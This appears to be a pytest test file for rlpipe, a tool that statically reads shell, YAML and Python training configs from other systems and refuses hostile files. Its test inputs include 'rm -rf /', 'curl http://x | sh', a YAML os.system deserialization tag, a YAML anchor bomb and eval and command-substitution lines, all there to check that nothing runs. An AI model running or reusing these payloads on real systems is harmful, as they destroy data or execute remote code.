"""Shell scripts of other systems are read as bash reads them, nothing is run, and hostile files are refused."""

from __future__ import annotations

import re
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from rlpipe.cli import main
from rlpipe.configs.foreign.launch_command import find_program
from rlpipe.configs.foreign.shell_script import Script
from rlpipe.errors import ConfigError

FOLDER = Path(__file__).with_name("examples")
PROGRAMS = ("python", "python3", "torchrun", "deepspeed", "accelerate", "trl", "ray", "uv")
UNLIKE_BASH = {
    "dapo.sh": "a comment between joined lines ends bash's command, against what its author meant",
    "iterative_dpo.sh": "its loop does not end without the programs that it calls",
    "slurm.sh": "the command is the text of another shell",
    "reinforce_arrays.sh": "a folder is computed",
    "grpo_arrays.sh": "a folder is computed",
}
AS_BASH = [
    path
    for path in sorted(FOLDER.rglob("*.sh"))
    if path.name not in UNLIKE_BASH or path.parent.name != {"dapo.sh": "verl"}.get(path.name, path.parent.name)
]
LIMIT_S = 20


def words_of_bash(script: str, *arguments: str) -> list[list[str]]:
    """Return the words of each program that bash would run, where every program only writes its words down."""
    shell = shutil.which("bash")
    if shell is None:
        pytest.skip("there is no bash")
    recorders = "".join(f"{name}() {{ printf '%s\\0' {name} \"$@\" END; }}\n" for name in PROGRAMS)
    done = subprocess.run(
        [shell, "--norc", "-c", f"mkdir() {{ :; }}; rm() {{ :; }}\n{recorders}{script}", "script", *arguments],
        env={"HOME": "$HOME", "PATH": "/nowhere", "OUTPUT_DIR": "$OUTPUT_DIR"},
        capture_output=True,
        text=True,
        timeout=60,
    )
    return [command.split("\0") for command in done.stdout.removesuffix("\0END\0").split("\0END\0")]


@pytest.mark.parametrize("path", AS_BASH, ids=lambda path: f"{path.parent.name}/{path.stem}")
def test_the_words_of_a_command_are_those_of_bash(path: Path) -> None:
    text = re.sub(r"2>&1 \| tee.*", "", path.read_text())  # a pipe would take the recorded words
    expected = [
        words
        for words in words_of_bash(text, *["$1", "$2"][: 2 * ("shift 2" in text)])
        if find_program(words) is not None
    ]
    unset = [re.sub(r"\$(gae_gamma|SLURM_GPUS_PER_NODE)", "", word) for word in _trained(text)]
    assert unset == expected[0]


def _trained(text: str) -> list[str]:
    return next(
        list(command.words) for command in Script(text).commands if command.runs and find_program(command.words)
    )


@pytest.mark.parametrize(
    ("script", "words"),
    [
        ("a=1; b=${a}2; run $b '$b' \"$b c\"", ["run", "12", "$b", "12 c"]),
        ("run ${a:-x y} \"${a:-x y}\" ${a-}", ["run", "x", "y", "x y"]),
        ("a=(1 '2 3'); a+=(4); run ${a[@]} \"${a[@]}\"", ["run", "1", "2", "3", "4", "1", "2 3", "4"]),
        ("a=(1 '2 3'); run ${a[1]} \"${a[1]}\" $a", ["run", "2", "3", "2 3", "1"]),
        ("a=x; a+=y; run $a ${a}z", ["run", "xy", "xyz"]),
        ("n=3; run $((n * 2 + (4 - 1))) $((7 / 2)) $((n > 2))", ["run", "9", "3", "1"]),
        ("run a\\ b a\"b c\"d ''", ["run", "a b", "ab cd", ""]),
        ("run a \\\n  b # c\nother", ["run", "a", "b"]),
        ("if [ -n \"\" ]; then run 1; elif [[ a == a* ]]; then run 2; else run 3; fi", ["run", "2"]),
        ("if [ 2 -gt 3 ] || [ 1 = 1 ]; then run 1; fi", ["run", "1"]),
        ("case b in a|c) run 1;; b) run 2;; *) run 3;; esac", ["run", "2"]),
        ("for x in p q; do run $x; break; done", ["run", "p"]),
        ("read -r -d '' t <<EOF\nrun 1 \\\n 2\nEOF\n$t", ["run", "1", "2"]),
        ("cat > /dev/null <<'EOF'\nit's not closed\nEOF\nrun 1", ["run", "1"]),
        ("export A=1 B=2; A=3 true; run $A $B", ["run", "1", "2"]),
        ("run 1 2>&1 < /dev/null", ["run", "1"]),
        ("a=1 b=2; run $a $b", ["run", "1", "2"]),
        ("f() { run 1; }; f", ["run", "1"]),
        ("x=1 && run $x || run 2", ["run", "1"]),
        ("run $'it\\'s\\t\\x41\\102 $x\\q' a$'b' \"$'c'\"", ["run", "it's\tAB $x\\q", "ab", "$'c'"]),
        ('x=1; run $"a $x"', ["run", "a 1"]),
    ],
)  # fmt: skip
def test_shell_constructs(script: str, words: list[str]) -> None:
    commands = [
        list(command.words) for command in Script(script).commands if command.runs and command.words[0] == "run"
    ]
    assert commands[0] == words
    if (shell := shutil.which("bash")) is not None:
        recorder = "cat() { :; }; run() { printf '%s\\0' run \"$@\"; exit; }\n"
        done = subprocess.run(
            [shell, "--norc", "-c", recorder + script], capture_output=True, text=True, env={"PATH": "/nowhere"}
        )
        assert done.stdout.split("\0")[:-1] == words


COMMAND = "python -m verl.trainer.main_ppo data.train_batch_size=8 actor_rollout_ref.model.path=m"
HOSTILE = {
    "quotes.sh": (f"{COMMAND} a.b='x\n" * 3, "line 3: the quote ' that opens here is never closed"),
    "double.sh": (f'echo "\n{COMMAND}\n', 'line 1: the quote " that opens here is never closed'),
    "braces.sh": ("a=${b:-${c\n", "line 1: .* never closed"),
    "array.sh": (f"a=(1 2\n{COMMAND}\n", r"line 1: the parenthesis \( that opens here is never closed"),
    "nested.sh": ("a=" + "$(" * 5000 + "\n", r"line 1: \$\( that opens here is never closed"),
    "defaults.sh": (f"{COMMAND} a.b=" + "${a:-" * 60 + "}" * 60, "nested more than 40 levels deep"),
    "growing.sh": ("a=xxxxxxxxxx\n" + 'a="$a$a"\n' * 60 + COMMAND, "its variables make more than 4,000,000 characters"),
    "many.sh": (f"a={'x' * 9000}\n" + 'b="$a"\n' * 900 + COMMAND, "its variables make more than 4,000,000 characters"),
    "other.sh": ("rm -rf /\ncurl http://x | sh\n", "no command of axolotl or OpenRLHF or TRL or verl was found"),
    "axolotl.sh": ("axolotl train x.yml\n", r"it runs axolotl with x\.yml; import that file"),
    "kd.sh": ("python -m openrlhf.cli.train_kd --pretrain m\n", "there is no algorithm distillation here"),
    "empty.sh": ("", "no command of"),
    "empty.yaml": ("", "it contains no settings"),
    "list.yaml": ("- 1\n- 2\n", "it contains no settings"),
    "self.yaml": ("base_model: m\na: &a [*a]\n", r"line 2: .*refers to itself"),
    "bomb.yaml": (
        "base_model: m\na: &a [x,x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"{b}: &{b} [{','.join([f'*{a}'] * 10)}]\n" for a, b in zip("abcdef", "bcdefg", strict=True)),
        "more than 100000 values",
    ),
    "tag.yaml": ("base_model: !!python/object/apply:os.system ['touch executed']\n", "tag .* is not supported"),
    "unhashable.yaml": ("base_model: m\n? [1]\n: 2\n", "not a YAML file|unhashable"),
    "deep.yaml": ("base_model: m\na: " + "[" * 100 + "]" * 100, "nested more than 40 levels"),
    "other.yaml": ("name: ci\non: [push]\n", "it is not clear which system it is for"),
    "ppo.yaml": ("base_model: m\nrl: ppo\n", "there is no algorithm ppo here; there are grpo"),
    "other.py": ("import os\nos.system('touch executed')\n", "no trainer of TRL and no command was found"),
    "syntax.py": ("def f(:\n", "not a Python file"),
    "deep.py": ("a = " + "(" * 5000 + ")" * 5000, "not a Python file"),
    "chain.py": ("a = " + "-" * 100_000 + "1", "not a Python file|no trainer of TRL"),
    "prose.py": ('"""It\'s not\n\n    python x.py --a "b\n"""\n', "no trainer of TRL and no command was found"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_one_clear_message(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    content, message = HOSTILE[name]
    monkeypatch.chdir(tmp_path)
    path = tmp_path / name
    path.write_text(content)
    began = time.process_time()
    assert main(["import", str(path)]) == 2
    assert time.process_time() - began < LIMIT_S
    error = capsys.readouterr().err
    assert error.startswith("rlpipe: error: ")
    assert error.count("\n") == 1
    assert len(error) < 1000
    assert re.search(message, error), error
    assert {found.name for found in tmp_path.iterdir()} == {name}


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("large.sh", b"x" * 10_000_000, "larger than 1 MiB"),
        ("binary.sh", b"\x7fELF\x00\xff\xfe" * 100, "is not UTF-8"),
        ("binary.py", b"\x00" * 100, "not a Python file|is not UTF-8"),
        ("binary.yaml", b"base_model: \x00", "line 1: the character"),
    ],
)
def test_what_is_no_text_is_one_clear_message(
    name: str, content: bytes, message: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    assert main(["import", str(path)]) == 2
    assert re.search(message, capsys.readouterr().err)
    assert main(["import", str(tmp_path / "nowhere.sh")]) == 2
    assert main(["import", str(tmp_path)]) == 2


LONG = {
    "assignments": 'a="$b"\n' * 40_000,
    "arguments": f"{COMMAND} " + "a.b=1 " * 100_000,
    "continued": COMMAND + " \\\n  a.b=1" * 60_000,
    "quotes": f"{COMMAND} " + "\"a\".b='1' " * 60_000,
    "comments": "# it's\n" * 100_000 + COMMAND,
    "opened": COMMAND + "\n" + "echo \"a\nb\" 'c\nd'\n" * 30_000 + "echo '",
    "conditions": "if [ a = b ]; then\n" * 20_000 + COMMAND,
    "pipes": "a | " * 100_000 + COMMAND,
    "parentheses": "( " * 200_000 + COMMAND,
    "heredocs": "cat <<EOF\nx\nEOF\n" * 40_000 + COMMAND,
    "unended": "cat <<EOF\n" * 2_000 + COMMAND,
    "numbers": "n=$((n * 3 + 1))\n" * 20_000 + COMMAND,
    "words": f"{COMMAND} a.b=" + "[" * 10_000,
    "names": f"{COMMAND} " + " ".join(f"a.b{index}={index}.5" for index in range(10_000)),
    "files": f"{COMMAND} data.train_files=" + str([f"{index}.parquet" for index in range(10_000)]).replace(" ", ""),
    "rewards": "trl grpo --beta 0 --reward_funcs " + " ".join(f"a.f{index}" for index in range(20_000)),
}


@pytest.mark.covering(0)
@pytest.mark.parametrize("name", LONG)
def test_a_long_script_takes_no_more_than_seconds(name: str, tmp_path: Path) -> None:
    path = tmp_path / "long.sh"
    path.write_text(LONG[name])
    began = time.process_time()
    assert main(["import", str(path)]) in (0, 2)
    assert time.process_time() - began < LIMIT_S


def test_nothing_is_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "run.sh"
    path.write_text(
        f"touch executed\nA=$(touch executed)\nB=`touch executed`\n$(touch executed)\neval 'touch executed'\n"
        f"{COMMAND} trainer.experiment_name=$A x.y=`touch executed` data.train_files=$(touch executed)\n"
        f"rm -rf {tmp_path}\n"
    )
    assert main(["import", str(path)]) == 0
    shown = capsys.readouterr().out
    assert {found.name for found in tmp_path.iterdir()} == {"run.sh"}
    assert f"# rm -rf {tmp_path}\n#     a command of the script that does not train\n" in shown
    assert "# trainer.experiment_name: $(touch executed)\n#     the file computes it: set name yourself\n" in shown


def test_variables_that_refer_to_each_other_stay() -> None:
    script = Script("a=$b\nb=$a\nb=$b$b\nrun $a $b\n")
    assert list(script.commands[0].words) == ["run", "$b", "$b$b"]


def test_expansions_that_are_not_read_stay_as_they_are() -> None:
    script = Script('a=x; run ${a//x/z} ${#a} ${a%x} "${a:0:1}"')
    assert list(script.commands[0].words) == ["run", "${a//x/z}", "${#a}", "${a%x}", "${a:0:1}"]


def test_an_unclosed_quote_is_an_error_of_its_line() -> None:
    with pytest.raises(ConfigError, match=r"^line 2: the quote"):
        Script("a=1\nb='2\n")


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ('[ "$MODE" = debug ] && X=2', "1"),
        ('[ "$MODE" = full ] && X=2', "2"),
        ('[ "$MODE" = debug ] || X=2', "2"),
        ('[ "$MODE" = debug ] && X=2 || X=3', "3"),
        ('[ "$MODE" = full ] && X=2 || X=3', "2"),
        ('[[ $NODES -gt 1 ]] && [ "$MODE" = full ] && X=2', "1"),
        ("cd /tmp && X=2", "2"),
        ("mkdir out || X=2", "2"),
        ('[ "$MODE" = debug ] && echo no; X=2', "2"),
        ('[ -z "$UNSET" ] && X=2', "2"),
        ('[ -n "$UNSET" ] && X=2', "1"),
        ('if [ -z "$UNSET" ]; then X=2; fi', "2"),
        ('if [ -n "${UNSET}" ]; then X=2; else X=3; fi', "3"),
        ('[ -n "$MODE" ] && X=2', "2"),
    ],
)
def test_a_condition_before_and_or_or_decides(text: str, value: str) -> None:
    script = Script(f"MODE=full NODES=1\nX=1\n{text}\nrun --x $X\n")
    assert script.commands[-1].words == ["run", "--x", value]
    assert script.commands[-1].runs


def test_a_command_after_a_condition_that_does_not_hold_is_not_taken() -> None:
    script = Script("MODE=full\n[ $MODE = debug ] && run --x 1\nrun --x 2\n")
    assert [command.runs for command in script.commands if command.words[0] == "run"] == [False, True]
